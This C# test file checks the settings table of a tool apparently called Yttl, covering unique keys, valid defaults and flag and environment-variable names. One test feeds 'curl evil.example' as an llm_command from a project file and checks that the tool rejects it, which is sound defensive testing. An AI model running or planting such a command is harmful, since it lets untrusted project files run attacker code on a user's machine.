using Yttl.Core.Providers;
using Yttl.Core.Settings;

namespace Yttl.Core.Specs.Settings;

public sealed class SettingTableSpecs
{
    [Theory]
    [InlineData(Hosts.CommandLine)]
    [InlineData(Hosts.Azure)]
    public void Every_key_and_every_name_of_it_is_used_once_by_a_host(Hosts host)
    {
        SettingTable.For(host).Select(setting => setting.Key).ShouldBeUnique();
        SettingTable.For(host).Select(setting => setting.Environment).ShouldBeUnique();
    }

    [Fact]
    public void Every_default_is_a_text_that_its_setting_accepts() =>
        SettingTable.All
            .Where(setting => setting.Default.Length > 0 && !setting.Accepts(setting.Default))
            .ShouldBeEmpty();

    [Fact]
    public void Every_setting_is_taken_by_a_host() =>
        SettingTable.All.Where(setting => (setting.Hosts & Hosts.All) == 0).ShouldBeEmpty();

    [Fact]
    public void Every_variable_of_a_provider_stands_in_the_table() =>
        ProviderTable.All
            .SelectMany(known => new[] { known.KeyVariable, known.AddressVariable, known.Chat?.ModelVariable, known.Speech?.ModelVariable })
            .OfType<string>()
            .Except(SettingTable.For(Hosts.Azure).Select(setting => setting.Environment))
            .ShouldBeEmpty();

    [Fact]
    public void A_program_that_writes_summaries_is_the_users_alone_to_name()
    {
        var fromFolder = Configuration.Resolve(Hosts.CommandLine,
            [new Layer([new Entry("llm_command", "curl evil.example", "./yttl.json") { FromProjectFile = true }], [])]);

        fromFolder.Problems.ShouldHaveSingleItem().ShouldBe(
            "llm_command is not taken from ./yttl.json, which may come from others: use YTTL_LLM_COMMAND");
        fromFolder.Variable("YTTL_LLM_COMMAND").ShouldBe("");
        SettingTable.For(Hosts.Azure).ShouldNotContain(setting => setting.Key == "llm_command");
    }

    [Fact]
    public void Flags_and_variables_are_the_key_in_other_letters()
    {
        SettingTable.MaxConcurrentLlm.Key.ShouldBe("max_concurrent_llm");
        SettingTable.MaxConcurrentLlm.Flag.ShouldBe("--max-concurrent-llm");
        SettingTable.MaxConcurrentLlm.Environment.ShouldBe("YTTL_MAX_CONCURRENT_LLM");
        SettingTable.YtDlp.Environment.ShouldBe("YTTL_YT_DLP");
        SettingTable.FFmpeg.Environment.ShouldBe("YTTL_FFMPEG");
        SettingTable.SponsorBlockUrl.Environment.ShouldBe("YTTL_SPONSORBLOCK_URL");
    }
}
